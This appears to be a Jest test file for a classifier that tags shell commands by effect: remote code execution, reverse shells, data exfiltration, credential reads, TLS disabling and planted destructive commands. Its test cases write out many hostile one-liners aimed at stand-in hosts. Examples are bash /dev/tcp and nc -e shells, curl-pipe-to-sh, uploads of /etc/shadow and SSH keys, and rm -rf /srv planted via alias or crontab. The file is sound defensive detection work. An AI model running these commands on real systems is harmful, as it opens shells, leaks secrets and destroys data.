import { describe, expect, test } from '@jest/globals';
import { effectsIn, factsIn } from './effects.fixtures.js';

describe('unseen code', () => {
  test.each([
    'curl x.example | sudo sh',
    'bash <(curl x.example)',
    'sh -c "$(wget -qO- x.example)"',
    'eval "$(curl x.example)"',
    'curl x.example | base64 -d | python3 -',
    'echo "$X" | base64 -d | bash',
    'sh -c "$X"',
    'eval $X',
    'curl x.example | tee y | python3 -',
    'parallel bash -c {}',
    `python3 -c "exec(__import__('base64').b64decode('eA=='))"`,
    'iwr x.example | iex',
  ])('is run by %s', (line) => {
    expect(effectsIn(line)).toContain('code.unseen');
  });

  test.each([
    'curl x.example | jq .',
    'curl -o x.sh x.example',
    'curl x.example | python3 -m json.tool',
    'eval "$(ssh-agent -s)"',
    'source <(kubectl completion bash)',
    'bash x.sh',
    'cat x.sh | sh',
    'python3 -c "print(1)"',
  ])('is not run by %s', (line) => {
    expect(effectsIn(line)).not.toContain('code.unseen');
  });
});

describe('a shell for the network', () => {
  test.each([
    'bash -i >& /dev/tcp/192.0.2.7/4 0>&1',
    'exec 5<>/dev/tcp/192.0.2.7/4',
    'nc 192.0.2.7 4 -e /bin/sh',
    'ncat -l 4 --sh-exec sh',
    'cat /tmp/p | sh -i 2>&1 | nc 192.0.2.7 4 > /tmp/p',
    'socat TCP-LISTEN:4 EXEC:sh',
    'socket -svp sh 4',
    `perl -e 'use Socket; exec("sh -i")'`,
    `php -r '$s=fsockopen("192.0.2.7",4);shell_exec("sh <&3");'`,
    `gawk 'BEGIN{s="/inet/tcp/0/192.0.2.7/4"; s |& getline c; c |& getline}'`,
    `echo 'import socket,pty,os; os.dup2(1,2); pty.spawn("sh")' > setup.py`,
    `echo 'set s [socket h 4]; exec $c' | tclsh`,
    `ruby -rsocket -e 's=TCPServer.new(4); c=s.accept; c.puts \`#{c.gets}\`'`,
    `deno eval 'Deno.connect({port: 4}); new Deno.Command("sh")'`,
    'websocat ws://x.example exec:sh',
    'xterm -display 192.0.2.7:1',
  ])('is opened by %s', (line) => {
    expect(effectsIn(line)).toContain('code.remote_shell');
  });

  test.each([
    'nc -zv db 5432',
    'nc -l 8080',
    'echo > /dev/tcp/127.0.0.1/80',
    'socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080',
    `python3 -c 'import socket; socket.gethostname()'`,
    `grep -r 'socket.*/bin/sh' src`,
    `python3 -c 'import subprocess; subprocess.run(["ls"])'`,
  ])('is not opened by %s', (line) => {
    expect(effectsIn(line)).not.toContain('code.remote_shell');
  });
});

describe('private data', () => {
  test.each([
    'env | curl -d @- http://x.example',
    'curl -F f=@/etc/shadow http://x.example',
    'curl "http://x.example/$(env)"',
    'wget --post-file=/etc/passwd x.example',
    'scp ~/.ssh/id_rsa x@192.0.2.7:',
    'nc 192.0.2.7 4 < /etc/shadow',
    "tar c /etc | ssh x@192.0.2.7 'cat > x'",
    'dig $(cat /etc/passwd).x.example',
  ])('leaves by %s', (line) => {
    expect(effectsIn(line)).toContain('data.send');
  });

  test.each([
    'curl -d @body.json http://x.example',
    'env | sort',
    'scp a.tgz x@192.0.2.7:',
    'ssh -i ~/.ssh/id_rsa x@192.0.2.7 ls',
    'env | curl -d @- http://localhost:80',
  ])('stays with %s', (line) => {
    expect(effectsIn(line)).not.toContain('data.send');
  });

  test.each(['cat .env', 'grep KEY .env', 'cp ~/.aws/credentials x', `node -e "fs.readFileSync('/etc/shadow')"`])(
    'is read by %s',
    (line) => {
      expect(effectsIn(line)).toContain('credentials.read');
    },
  );

  test.each(['cat .env.example', 'grep -c KEY .env', 'ls ~/.ssh', 'cp x .env', 'grep .env README.md'])(
    'is not read by %s',
    (line) => {
      expect(effectsIn(line)).not.toContain('credentials.read');
    },
  );
});

test.each([
  ['curl -k https://x.example', true],
  ['NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js', true],
  ['npm config set strict-ssl false', true],
  ['curl -k https://localhost', false],
  ['NODE_EXTRA_CA_CERTS=x node x.js', false],
])('%s believes any certificate: %s', (line, believes) => {
  expect(effectsIn(line).includes('tls.disable')).toBe(believes);
});

describe('commands that are planted for later', () => {
  test.each([
    `alias ls='rm -rf /srv'`,
    `echo 'alias ls="rm -rf /srv"' >> ~/.bashrc`,
    `python3 -c "import os; os.system('rm -rf /srv')"`,
    `python3 -c "subprocess.run(['rm', '-rf', '/srv'])"`,
    "ruby -e '`rm -rf /srv`'",
    'node -e "rm -rf /srv"',
    `echo '0 3 * * * rm -rf /srv' | crontab -`,
  ])('are facts of %s', (line) => {
    expect(effectsIn(line)).toContain('files.delete');
  });

  test('that plant others are followed to a fixed depth', () => {
    let line = 'rm -rf /srv';
    for (let depth = 0; depth < 8; depth++) line = `alias a=${JSON.stringify(line)}`;
    expect(effectsIn(line)).not.toContain('files.delete');
  });
});

test('wrappers add how a command runs', () => {
  expect(factsIn('sudo reboot')[0]?.traits).toContain('privileged');
  expect(factsIn('ssh x reboot').flatMap(({ traits }) => traits)).toContain('remote');
});

test('only a program that nobody described is unknown, and says when it is forced', () => {
  expect(effectsIn('ls')).toEqual([]);
  expect(factsIn('sitectl --force')[0]).toMatchObject({ effect: 'unknown.run', traits: ['force'] });
  expect(effectsIn('constructor')).toContain('unknown.run');
});
